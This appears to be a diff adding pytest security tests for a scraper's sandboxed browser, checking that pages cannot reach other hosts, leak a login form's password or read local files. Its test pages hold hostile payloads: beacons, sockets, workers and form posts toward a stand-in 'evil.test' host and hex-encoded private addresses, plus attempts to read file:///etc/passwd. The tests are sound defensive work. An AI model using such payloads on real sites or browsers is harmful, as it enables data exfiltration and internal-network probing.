@@ -1,0 +1,204 @@
+"""The browser's window: every way out of a page goes through the door."""
+
+import asyncio
+import contextlib
+import stat
+from pathlib import Path
+
+import pytest
+
+from scraper.errors import ForeignHost, SiteUnreachable, UnsafeRedirect
+from scraper.link import of
+from scraper.session import Session
+from scraper.session.browser import Browser, Window
+from scraper.session.door import Door
+from scraper.session.http import Http
+from scraper.session.pace import Pace
+from scraper.settings import Settings
+from tests.security.played import LAN, OTHER, PUBLIC, Played, Trap
+from tests.security.test_hostile_addresses import Handler, answer, server
+
+NAMES = {
+    "film.test": [PUBLIC],
+    "other.test": [OTHER],
+    "evil.test": ["192.168.77.1"],
+    "inside.test": ["10.0.0.1"],
+}
+WAYS = """<!doctype html><title>page</title><body>
+<iframe src="{at}/iframe"></iframe><img src="{at}/img"><link rel=stylesheet href="{at}/css"><script src="{at}/script"></script>
+<link rel=preconnect href="{at}"><link rel=prefetch href="{at}/prefetch"><link rel=dns-prefetch href="{at}">
+<video src="{at}/video"></video><object data="{at}/object"></object><a ping="{at}/ping" href="#x" id=a>x</a>
+<form id=f method=post target=_blank action="{at}/form"><input name=x value=1></form>
+<form id=g method=post target=inner action="{at}/inner"><input name=x value=1></form><iframe name=inner></iframe>
+<script>
+const at = "{at}", bare = at.split("//")[1];
+const quietly = work => { try { const done = work(); if (done && done.catch) done.catch(() => 0); } catch (e) {} };
+quietly(() => fetch(at + "/fetch", {mode: "no-cors"}));
+quietly(() => fetch("/redirect?to=" + encodeURIComponent(at + "/redirected"), {mode: "no-cors"}));
+quietly(() => navigator.sendBeacon(at + "/beacon", "x"));
+quietly(() => new WebSocket("ws://" + bare + "/socket"));
+quietly(() => new EventSource(at + "/events"));
+quietly(() => { const x = new XMLHttpRequest(); x.open("GET", at + "/xhr"); x.send(); });
+quietly(() => new Worker(URL.createObjectURL(new Blob([`fetch("` + at + `/worker", {mode: "no-cors"}).catch(() => 0);
+  new WebSocket("ws://${bare}/worker-socket")`]))));
+quietly(() => new SharedWorker("/shared.js?to=" + encodeURIComponent(at)));
+quietly(() => document.getElementById("f").submit());
+quietly(() => document.getElementById("g").submit());
+quietly(() => document.getElementById("a").click());
+quietly(() => open(at + "/popup"));
+quietly(() => { const c = new RTCPeerConnection({iceServers: [{urls: "stun:" + bare}]}); c.createDataChannel("x");
+  c.createOffer().then(o => c.setLocalDescription(o)); });
+quietly(() => new WebTransport("https://" + bare + "/transport"));
+</script></body>"""
+
+
+def pages(targets: list[str]) -> Handler:
+    async def handler(head: bytes, writer: asyncio.StreamWriter) -> None:
+        path = head.split(b" ")[1].decode()
+        if path.startswith("/page"):
+            body = WAYS.replace("{at}", targets[int(path.removeprefix("/page"))]).encode()
+            writer.write(answer(body, "Content-Type: text/html"))
+        elif path.startswith("/redirect"):
+            from urllib.parse import unquote
+
+            writer.write(answer(b"", f"Location: {unquote(path.partition('=')[2])}", status="302 Found"))
+        elif path.startswith("/shared.js"):
+            script = b'fetch(decodeURIComponent(location.search.slice(4)) + "/shared", {mode: "no-cors"}).catch(() => 0)'
+            writer.write(answer(script, "Content-Type: text/javascript"))
+        else:
+            writer.write(answer(b"<title>home</title>", "Content-Type: text/html"))
+
+    return handler
+
+
+async def settle(window: Window) -> None:
+    with contextlib.suppress(TimeoutError):
+        async with asyncio.timeout(8):
+            await window.traffic.settled(0.7, 6.0)
+
+
+async def test_hostile_3_no_way_out_of_a_page_leads_inside(tmp_path):
+    """Some twenty ways, to a name and to an address; and the same page reaches there where its link lies inside, too."""
+    targets: list[str] = []
+    settings = Settings(timeout_s=10)
+    with Trap(LAN) as trap:
+        targets += [f"http://evil.test:{trap.port}", f"http://0xc0a84d01:{trap.port}"]
+        async with server(pages(targets)) as port, Browser(settings, tmp_path / "spool") as browser:
+            door = Door(settings, Played(NAMES))
+            door.belongs_to(f"http://film.test:{port}/page0")
+            window = await browser.window(door=door)
+            kept_out: list[str] = []
+            window.on_kept_out = kept_out.append
+            for number in range(len(targets)):
+                await window.open(f"http://film.test:{port}/page{number}")
+                await settle(window)
+            for url in (
+                targets[0] + "/opened",
+                f"http://film.test:{port}/redirect?to={targets[1]}/redirected",
+            ):
+                with pytest.raises(UnsafeRedirect):
+                    await window.open(url)
+            await window.close()
+            assert trap.lines == []
+            assert set(kept_out) == {"evil.test", "192.168.77.1"}
+        async with server(pages(targets), LAN) as port, Browser(settings, tmp_path / "spool") as browser:
+            door = Door(settings, Played(NAMES))
+            window = await browser.window(door=door)
+            door.belongs_to(f"http://inside.test:{port}/page0")
+            await window.open(f"http://inside.test:{port}/page0")
+            await settle(window)
+            await window.close()
+        reached = {line.split()[1] for line in trap.lines}
+        assert reached >= {
+            "/iframe", "/img", "/css", "/script", "/fetch", "/redirected", "/beacon", "/socket", "/events", "/xhr", "/worker",
+            "/worker-socket", "/shared", "/form", "/inner",
+        }  # fmt: skip
+
+
+LOGIN = """<!doctype html><title>login</title><form id=f method={method} action="{action}">
+<input name=account><input name=password type=password><button>go</button></form>"""
+
+
+@pytest.mark.parametrize(
+    ("method", "action"),
+    [
+        ("post", "/again"),
+        pytest.param("post", "http://other.test:{port}/login", marks=pytest.mark.thorough),
+        pytest.param("get", "http://other.test:{port}/login", marks=pytest.mark.thorough),
+    ],
+)
+async def test_hostile_2_a_form_in_the_browser_is_not_sent_to_another_site(tmp_path, method, action):
+    heads: list[bytes] = []
+
+    async def handler(head: bytes, writer: asyncio.StreamWriter) -> None:
+        heads.append(head)
+        if head.startswith(b"POST /again"):
+            writer.write(answer(b"", f"Location: http://other.test:{port}/login", status="307 Moved"))
+        else:
+            form = LOGIN.format(method=method, action=action.format(port=port))
+            writer.write(answer(form.encode(), "Content-Type: text/html"))
+
+    settings = Settings(timeout_s=10, answers={"password": "s3cret-word"})
+    async with server(handler) as port, Browser(settings, tmp_path / "spool") as browser:
+        http = Http(settings, Pace(4, None), door=Door(settings, Played(NAMES)))
+        session = Session(
+            of(f"http://film.test:{port}/s/1"), settings, http, start_window=lambda: browser.window(door=http.door),
+            ask=lambda *_: None, spool=tmp_path,
+        )  # fmt: skip
+        from scraper.model import PASSWORD
+
+        window = await session.window()
+
+        async def log_in() -> None:
+            async with window.guard():
+                await session.open(session.link.url)
+                await session.page.fill("[name=password]", session.answer(PASSWORD))
+                await session.page.click("button")
+                await session.traffic.wait_for("/never", timeout_s=5)
+
+        with pytest.raises(ForeignHost):
+            await log_in()
+        await session.close()
+    assert not any(b"Host: other.test" in head for head in heads)
+
+
+async def test_hostile_12_the_browser_asks_for_nothing_of_its_own(tmp_path):
+    """No host but the page's is asked for; no permission is granted, no file is read, its profile is its owner's alone."""
+    asked_for = """() => Promise.all(["geolocation", "notifications", "camera", "microphone", "clipboard-read", "midi"].map(
+      name => navigator.permissions.query({name}).then(status => status.state, () => "denied")))"""
+    file_ways = """async () => {
+      const frame = document.createElement("iframe"); frame.src = "file:///etc/passwd"; document.body.append(frame);
+      const fetched = await fetch("file:///etc/passwd").then(() => "read", () => "refused");
+      try { location.href = "file:///etc/passwd"; } catch (e) {}
+      await new Promise(done => setTimeout(done, 300));
+      return [fetched, location.protocol];
+    }"""
+    settings = Settings(timeout_s=10)
+    async with server(pages(["about:blank"])) as port, Browser(settings, tmp_path / "spool") as browser:
+        door = Door(settings, Played(NAMES))
+        door.belongs_to(f"http://film.test:{port}/home")
+        window = await browser.window(door=door)
+        await window.open(f"http://film.test:{port}/home")
+        assert set(await window.page.evaluate(asked_for)) == {"denied"}
+        assert await window.page.evaluate(file_ways) == ["refused", "http:"]
+        profiles = [
+            Path(word.partition("=")[2]) for word in _command_lines() if word.startswith("--user-data-dir=")
+        ]
+        assert profiles
+        assert all(stat.S_IMODE(path.stat().st_mode) == 0o700 for path in profiles if path.exists())
+        assert stat.S_IMODE((tmp_path / "spool").stat().st_mode) == 0o700
+        await settle(window)
+        assert set(browser.asked_hosts) == {"film.test"}
+        assert set(door.refused) == set()
+        with pytest.raises(SiteUnreachable):
+            await window.open("http://no-such-name.test/")
+
+
+def _command_lines() -> list[str]:
+    import psutil
+
+    words: list[str] = []
+    for process in psutil.Process().children(recursive=True):
+        with contextlib.suppress(psutil.Error):
+            words += process.cmdline()
+    return words
